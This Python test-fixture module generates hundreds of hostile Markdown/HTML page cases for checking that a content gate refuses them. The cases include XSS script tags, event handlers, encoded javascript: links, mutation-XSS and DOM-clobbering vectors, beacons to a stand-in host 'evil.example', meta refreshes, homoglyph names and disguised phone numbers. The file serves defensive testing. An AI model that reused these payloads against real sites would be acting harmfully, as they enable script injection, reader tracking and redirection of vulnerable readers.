# ruff: noqa: E501 (a case is read in one piece)
"""Malicious pages, by technique: each is refused by the gate, and harmless without it behind the policy.

A case is the Markdown of a page's body below its title. `RUN` stands for a program that leaves a mark, and
`OUT` for a host that must never hear of a reader.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from itertools import product

from corpus.contact_cases import CONTACTS

RUN = "window.ran=1"
OUT = "evil.example"


@dataclass(frozen=True)
class Case:
    """One attempt: its technique, its number in it, its Markdown. `leaves`: no policy can stop it alone."""

    technique: str
    number: int
    markdown: str
    leaves: bool = False

    @property
    def name(self) -> str:
        """What a failing test shows."""
        return f"{self.technique}-{self.number}"


def cases() -> list[Case]:
    """Every case, in the order of the techniques."""
    found = []
    for technique, make in TECHNIQUES.items():
        for number, markdown in enumerate(make()):
            found.append(Case(technique, number, markdown, leaves=technique in LEAVES))
    return found


def scripts() -> Iterator[str]:
    tags = ["<script>{}</script>", "<SCRIPT>{}</SCRIPT>", "<ScRiPt\n>{}</sCrIpT>", "<script type=module>{}</script>",
            "<script/x>{}</script>", "<script>/*\n*/{}//</script>", "<script\t>{}</script\t>",
            "text <script>{}</script> text", "- item <script>{}</script>", "> <script>{}</script>",
            "| a |\n|---|\n| <script>{}</script> |", '!!! note "x"\n    <script>{}</script>',
            "**<script>{}</script>**", "<svg><script>{}</script></svg>", "<math><script>{}</script></math>",
            "<noscript><p title='</noscript><script>{}</script>'></noscript>", "<!--><script>{}</script>-->",
            "<!-- --!><script>{}</script> -->", "<title></title><script>{}</script>",
            "<template><script>{}</script></template><script>{}</script>",
            "<textarea></textarea><script>{}</script>", "<style></style><script>{}</script>",
            "<p><script>{}</script></p>", "</article></main><script>{}</script>",
            "<div markdown=1>\n<script>{}</script>\n</div>", "`a` <script>{}</script> `b`",
            "\\`<script>{}</script>\\`", "\\<script>{}</script>",
            "<<script>{}</script>", "<script>{}", "<body><script>{}</script></body>"]  # fmt: skip
    for tag in tags:
        yield tag.replace("{}", RUN)
    for source in (f"//{OUT}/x.js", f"https://{OUT}/x.js", f"data:text/javascript,{RUN}", f"\\\\{OUT}/x.js"):
        yield f"<script src='{source}'></script>"
        yield f'<script src="{source}" async defer></script>'
        yield f"<svg><script href='{source}'></script></svg>"


def handlers() -> Iterator[str]:
    names = ["onclick", "onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onpointerenter",
             "onbeforeinput", "onscroll", "ONCLICK", "OnErRoR", "ontransitionend", "onauxclick"]  # fmt: skip
    for name in names:
        yield f'<img src=x {name}="{RUN}">'
        yield f'![a picture](../assets/x.png){{{name}="{RUN}"}}'
        yield f'A paragraph.\n{{: {name}="{RUN}" }}'
        yield f'## Heading {{#anchor {name}="{RUN}"}}\n\nText.'
        yield f'[a link](contact.md){{{name}="{RUN}" autofocus tabindex=1}}'
    for markup in (
        "<svg onload={}>", "<svg/onload={}>", "<details open ontoggle={}>x</details>", "<input autofocus onfocus={}>",
        "<body onload={}>", "<video><source onerror={}></video>", "<audio src=x onerror={}>",
        "<marquee onstart={}>x</marquee>", "<iframe onload={}></iframe>", "<a href=# onclick={}>x</a>",
        "<select autofocus onfocus={}>", "<style onload={}></style>", "<link rel=stylesheet href=x onerror={}>",
        "<object data=x onerror={}></object>", "<p style='animation:x' onanimationstart={}>x</p>", "<x onclick={}>x</x>",
        "*a*{{onclick={}}}", "**a**{{: onclick={}}}", "`a`{{onclick={}}}", "- a\n{{: onclick={}}}", "# T {{onclick={}}}",
    ):  # fmt: skip
        yield markup.format(RUN) if "{{" in markup else markup.replace("{}", RUN)


def schemes() -> Iterator[str]:
    programs = [
        f"javascript:{RUN}", f"JavaScript:{RUN}", f"jAvAsCrIpT:{RUN}//", f"javascript&colon;{RUN}",
        f"&#106;avascript:{RUN}", f"&#x6A;avascript:{RUN}", f"&#0000106avascript:{RUN}", f"java&Tab;script:{RUN}",
        f"java&NewLine;script:{RUN}", f"&#1;javascript:{RUN}", f"javascript&#58;{RUN}", f"vbscript:{RUN}",
        f"data:text/html,<script>{RUN}</script>", "data:text/html;base64,PHNjcmlwdD5yYW49MTwvc2NyaXB0Pg==",
        f"data:image/svg+xml,<svg onload={RUN}>", f"view-source:javascript:{RUN}", f"java\u00adscript:{RUN}",
        f"feed:javascript:{RUN}", f"blob:{RUN}", "filesystem:x", f"javascript://%0a{RUN}", "about:blank",
    ]  # fmt: skip
    for program in programs:
        safe = program.replace(" ", "%20")
        yield f"[a link]({safe})"
        yield f"[a link](<{program}>)"
        yield f'[a link][1]\n\n[1]: {safe} "title"'
        yield f"![a picture]({safe})"
    for markup in (
        "<{}>", "<a href='{}'>x</a>", "[x]( {})", "[x](\n{})", '[x]({} "a title")', "[![a](../assets/a.png)]({})",
        "<form action='{}'><button>x</button></form>", "<iframe src='{}'></iframe>", "<object data='{}'></object>",
        "<embed src='{}'>", "<base href='{}'>", "<svg><a xlink:href='{}'><text>x</text></a></svg>",
        "<button formaction='{}' form=f>x</button>", "<math href='{}'>x</math>",
        "<svg><animate attributeName=href values='{}'/></svg>", "<a href=contact.md ping='{}'>x</a>",
    ):  # fmt: skip
        yield markup.replace("{}", f"javascript:{RUN}")


def outside() -> Iterator[str]:
    addresses = [f"https://{OUT}/p", f"http://{OUT}", f"//{OUT}/p", f"\\\\{OUT}/p", f"/\\{OUT}", f"HTTPS://{OUT}",
                 f"https:/{OUT}", f"https:{OUT}", f"ftp://{OUT}", f"ws://{OUT}", f"///{OUT}", f"&#47;&#47;{OUT}",
                 f"https&#58;//{OUT}", f"h&#116;tps://{OUT}"]  # fmt: skip
    for address in addresses:
        yield f"[a link]({address})"
        yield f"![a picture]({address}/x.png)"
        yield f"[a link][there]\n\n[there]: {address}"
    yield from (
        f"<https://{OUT}>",
        f"See https://{OUT}/help for more.",
        f"See {OUT} for more.",
        f"See www.{OUT} now.",
        "Write to help@evil.example soon.",
        "<help@evil.example>",
        "Write to help (at) evil.example.",
        "Write to help [at] evil [dot] example.",
        "Find us as @helpers there.",
        "Open payoke。com now.",
        "Open pag-asa.org now.",
        "Open PAG-ASA.COM now.",
        "Open t.me/helpers now.",
        "Open wa.me/32470000000.",
        "Open пример.рф now.",
        "Open xn--e1afmkfd.com now.",
        "[pag-asa.be](contact.md#centres)",
        "Open help . com now.",
        "[write](mailto:help@evil.example)",
        "[call](tel:+3225116465)",
        "[text](sms:112)",
        "[x](whatsapp://send)",
        "![see help.com](../assets/x.png)",
        '[x](contact.md "call help.com")',
        "Open p\u200bayoke.com now.",
        "Open payoke&#46;com now.",
        "Open payoke&period;com now.",
        "Open *payoke*.com now.",
        "Open payoke.**com** now.",
        "Open ｐａｙｏｋｅ．ｃｏｍ now.",
        "[x](/etc/passwd)",
        "[x](../../../../other/)",
        "[x](file:///etc/passwd)",
        "[x](?q=1)",
        "[x](contact.md?leak=1)",
        "[x](contact.exe)",
        "[x]()",
        "[x](#)",
        "[x](//)",
        "[x](../../../../../x.md)",
        "![a](../../../../x.png)",
        "![a](../assets/x.gif)",
        "![a](../assets/x.svg?x)",
    )


def markup() -> Iterator[str]:
    for tag in (
        "b", "i", "u", "font", "center", "span", "div", "p", "section", "style", "form", "input", "button", "textarea",
        "select", "iframe", "object", "embed", "applet", "video", "audio", "source", "track", "canvas", "svg", "math",
        "template", "slot", "dialog", "details", "summary", "base", "link", "meta", "title", "plaintext", "xmp",
        "listing", "noembed", "noframes", "frameset", "frame", "portal", "map", "area", "label", "fieldset", "x-y",
        "isindex", "keygen", "image", "bgsound", "layer", "blink", "marquee",
    ):  # fmt: skip
        yield f"A word <{tag}>here</{tag}> and there."
    yield from (
        f"<style>body{{background:url(//{OUT}/x)}}</style>", f"<style>@import '//{OUT}/x.css';</style>",
        f"<link rel=stylesheet href='//{OUT}/x.css'>", f"<link rel=icon href='//{OUT}/x.ico'>",
        f"<p style='background:url(//{OUT}/x)'>x</p>", f"Text.\n{{: style='background:url(//{OUT}/x)' }}",
        "*x*{style='position:fixed;inset:0;background:red'}", "Text.\n{: class='skip' }", "*x*{.visually-hidden}",
        "*x*{#quick-exit}", "## Exit {#quick-exit}\n\nText.", "## X {#content}\n\nText.", "## X {#tick-pay}\n\nText.",
        "## X {#exit-status}\n\nText.", "## X {#Ünï}\n\nText.", "## X {#a.b}\n\nText.", "## X {#a name=x}\n\nText.",
        "## A {#same}\n\nx\n\n## B {#same}\n\ny", "## No anchor\n\nText.", "Text.\n{: hidden=hidden }",
        "Text.\n{: data-x=1 }", "Text.\n{: contenteditable=true }", "Text.\n{: lang=xx dir=rtl }",
        "[x](contact.md){target=_blank}", "[x](contact.md){download}", "[x](contact.md){rel=opener}",
        "![a](../assets/x.png){srcset='//evil.example/x.png 1x'}", "![a](../assets/x.png){loading=eager width=9999}",
        "![](../assets/x.png)", "!!! warning \"x\"\n    y", "!!! danger evil \"x\"\n    y", "!!! note skip \"x\"\n    y",
        "    a block of code", "```\ncode\n```", "~~~ html\n<b>\n~~~", "# Another title", "<!-- hidden note -->",
        "<?php x ?>", "<!DOCTYPE x>", "<![CDATA[x]]>", "</main>", "</article>", "<b", "x <b y", "<a\nhref=x>y</a>",
        "| a |\n|:-:|\n| b |", f"<img src='//{OUT}/x.png' alt=x>", f"<img srcset='//{OUT}/x.png 1x' alt=x>",
        f"<video poster='//{OUT}/x'></video>", f"<table background='//{OUT}/x'><tr><td>x</table>",
        f"<input type=image src='//{OUT}/x'>", f"<object data='//{OUT}/x'></object>", f"<embed src='//{OUT}/x'>",
        f"<iframe src='//{OUT}/x'></iframe>", "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
        f"<svg><image href='//{OUT}/x.png'/></svg>", f"<svg><use href='//{OUT}/x.svg#a'/></svg>",
        f"<svg><style>@import '//{OUT}/x'</style></svg>", f"<audio src='//{OUT}/x' autoplay></audio>",
        f"<form action='//{OUT}'><input name=q></form>", f"<isindex action='//{OUT}'>",
        "<math><mtext><table><mglyph><style><img src=x onerror=window.ran=1>",
        "<svg></p><style><a id='</style><img src=x onerror=window.ran=1>'>",
        "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=window.ran=1 src>'>",
        "<noscript><style></noscript><img src=x onerror=window.ran=1></style>",
        "<select><template><img src=x onerror=window.ran=1></template></select>",
        "&lt;b&gt; <b>x", "<a name=getElementById>x</a>", "<img name=querySelector src=x alt=x>",
        "<form name=body><input name=append></form>", "<a id=defaultView>x</a>", "<p id=quick-exit>x</p>",
    )  # fmt: skip
    for number in range(1, 8):
        yield "".join(f"<span{n}>" for n in range(number)) + "deep"


def numbers() -> Iterator[str]:
    wrong = ("02 511 64 65", "078 055 801", "0470 12 34 56", "+32 2 511 64 65", "03 201 16 91")
    spellings = (
        "{}", "**{}**", "`{}`", "[{}](contact.md)", "![{}](../assets/x.png)", '[x](contact.md "{}")', "- {}", "> {}",
        "| a |\n|---|\n| {} |", "## Call {} {{#call}}\n\nText.", '!!! danger "{}"\n    x', "!!! note \"x\"\n    {}",
        "[x][1]\n\n[1]: contact.md '{}'", "1. {}", "Call {}.", "({})", "Tel:{}", "PAG-ASA:{}/Payoke",
    )  # fmt: skip
    for spelling in spellings:
        yield spelling.replace("{{", "{").replace("}}", "}").replace("{}", wrong[0])
    for number in wrong:
        plain = number.replace(" ", "")
        yield f"Call {plain} now."
        for sign in ".-/·•–_*|~":
            yield f"Call {number.replace(' ', sign)} now."
        for hidden in (
            "\u200b",
            "\u200d",
            "\u2060",
            "\u00ad",
            "\u20e3",
            "\u0336",
            "\ufe0f",
            "&#8203;",
            "&shy;",
            "&zwj;",
        ):
            yield f"Call {hidden.join(plain)} now."
        for markup in (
            "{0}*{1}* {2}",
            "{0}**{1}**{2}",
            "{0}`{1}`{2}",
            "{0}<b>{1}</b>{2}",
            "{0}[{1}](contact.md){2}",
        ):
            yield "Call " + markup.format(plain[:1], plain[1:3], plain[3:]) + " now."
        yield "Call " + "".join(f"&#{ord(c)};" for c in number) + " now."
        yield "Call " + "".join(f"&#x{ord(c):x};" for c in number) + " now."
        yield (
            "| a | b | c |\n|---|---|---|\n| "
            + " | ".join(number.split()[:3])
            + " "
            + " ".join(number.split()[3:])
            + " |"
        )
        yield "\n".join(f"- {group}" for group in number.split())
        yield "  \n".join(number.split())
    for digits, number in product(DIGITS.values(), wrong[:3]):
        yield f"Call {number.translate(str.maketrans('0123456789', digits))} now."
    yield from (
        "Call 112 now.",
        "Call 101.",
        "**112**",
        "١١٢",
        "۱۱۲",
        "११२",
        "１１２",
        "1 1 2",
        "Dial 1-1-2.",
        "[112](contact.md)",
        "Call 113 now.",
        "Phone 911.",
        "Bel 100.",
        "Appelez le 115 !",
        "拨打110。",
        "اتصل على 113",
        "Text 8000 now.",
        "116 000",
        "116000",
        "116.111",
        "116-006",
        "Dial 1722.",
        "Call {{ emergency.phone }}3.",
        "+33 {{ centre.brussels.phone }}",
        "0900 {{ centre.brussels.phone }}",
        "{{ centre.brussels.phone }} 5",
        "{{ centre.brussels.phone }}-77",
        "9{{ emergency.phone }}",
        "BE68 5390 0754 7034",
        "IBAN BE68539007547034",
        "1-800-555-0199",
        "(02) 511.64.65",
        "0032 2 511 64 65",
        "00 32 2 511 64 65",
        "O2 511 64 65",
        "O2-5II-64-65 or 511 64 65",
        "02x511x64x65",
        "02📞511📞64📞65",
        "①②③④⑤⑥⑦⑧",
        "⁰²⁵¹¹⁶⁴⁶⁵",
        "零二五一一六四六五",
        "፪፭፩፩፮፬፮፭",
        "0 2 5 1 1 6 4 6 5",
        "02 5116465 ext. 3",
        "+32(0)2/511.64.65",
        "tel:025116465",
    )


DIGITS = {
    "ar": "٠١٢٣٤٥٦٧٨٩", "fa": "۰۱۲۳۴۵۶۷۸۹", "hi": "०१२३४५६७८९", "bn": "০১২৩৪৫৬৭৮৯", "th": "๐๑๒๓๔๕๖๗๘๙",
    "km": "០១២៣៤៥៦៧៨៩", "my": "၀၁၂၃၄၅၆၇၈၉", "ta": "௦௧௨௩௪௫௬௭௮௯", "lo": "໐໑໒໓໔໕໖໗໘໙", "bo": "༠༡༢༣༤༥༦༧༨༩",
    "wide": "０１２３４５６７８９", "bold": "𝟎𝟏𝟐𝟑𝟒𝟓𝟔𝟕𝟖𝟗", "mono": "𝟶𝟷𝟸𝟹𝟺𝟻𝟼𝟽𝟾𝟿", "above": "⁰¹²³⁴⁵⁶⁷⁸⁹", "below": "₀₁₂₃₄₅₆₇₈₉",
    "ring": "⓪①②③④⑤⑥⑦⑧⑨", "zh": "〇一二三四五六七八九",
}  # fmt: skip


def hidden() -> Iterator[str]:
    for char in (
        "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200b\u2060\u2061\u2062\u2063\u2064\u206a\u206f\ufeff"
        "\u180e\u034f\u115f\u1160\u3164\uffa0\u2800\ufff9\ufffa\ufffb\u2028\u2029\U000e0041\U000e0061\U000e007f\ufe00\ufe01"
        "\U000e0100\ue000\U000f0000\x01\x02\x03\x08\x0b\x0c\x0e\x1b\x7f\x80\x9f\u200c\u200d\u200e\u200f\u061c\ufffd"
    ):  # fmt: skip
        yield f"Some te{char}xt here."
        if ord(char) > 0x9F:
            yield f"Some te&#x{ord(char):X};xt here."
    yield from (
        "Рayoke helps.", "PАG-ASA helps.", "Sürуa helps.", "Liеge is a town.", "Pαyoke helps.", "Μyria helps you.",
        "Help from РАУОКЕ here in this town.", "𝐏𝐚𝐲𝐨𝐤𝐞 helps.", "Ｐａｙｏｋｅ helps.", "Ⓟⓐⓨⓞⓚⓔ helps.", "H\u0335\u0336\u0337\u0338elp.",
        "Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306algo.", "می\u200c\u200cشود", "x&zwnj;y", "x&ZeroWidthSpace;y",
    )  # fmt: skip


def templates() -> Iterator[str]:
    yield from (
        "{% include 'secret' %}", "{{% x %}}", "{% raw %}", "{{ emergency.phone", "emergency.phone }}", "{{ {{ x }} }}",
        "{{\nemergency.phone }}", "--8<-- 'secret.md'", ";--8<-- \"secret.md\"", "{! secret.md !}",
        "`{{ emergency.phone }}` }}", "[x]({{ centre.brussels.website }})", "![{{ emergency.phone }}](../assets/x.png)",
        "[x](contact.md '{{ emergency.phone }}')", "[x][1]\n\n[1]: {{ centre.brussels.website }}", "{{ x }}}}",
    )  # fmt: skip


def bulk() -> Iterator[str]:
    yield from (
        "> " * 200 + "deep", "- " * 200 + "deep", "[" * 2000, "![" * 500, "*a_" * 2000, "`" * 999, "(" * 3000, "<" * 500,
        "a" * 5000, "&" * 40, "\\" * 60, "\n".join("    " * n + "- x" for n in range(30)), "x\n" * 40_000,
        "| " * 3000, "#" * 30 + " x", "_" * 500 + "x", "[a](" * 1500, "\n".join("> " * n + "x" for n in range(50)),
    )  # fmt: skip


def leaving() -> Iterator[str]:
    yield from (
        f"<meta http-equiv=refresh content='0;url=https://{OUT}/'>",
        f"<META HTTP-EQUIV='Refresh' CONTENT='0; URL=//{OUT}/'>",
        f"<meta http-equiv=refresh content='0;url=data:text/html,<script>{RUN}</script>'>",
    )


TECHNIQUES = {
    "scripts": scripts, "handlers": handlers, "schemes": schemes, "outside": outside, "markup": markup,
    "numbers": numbers, "hidden": hidden, "templates": templates, "bulk": bulk, "leaving": leaving,
    **CONTACTS,
}  # fmt: skip
# A policy in the page can't stop a <meta> refresh: only the first wall does (SECURITY.md says so).
LEAVES = frozenset(("leaving",))
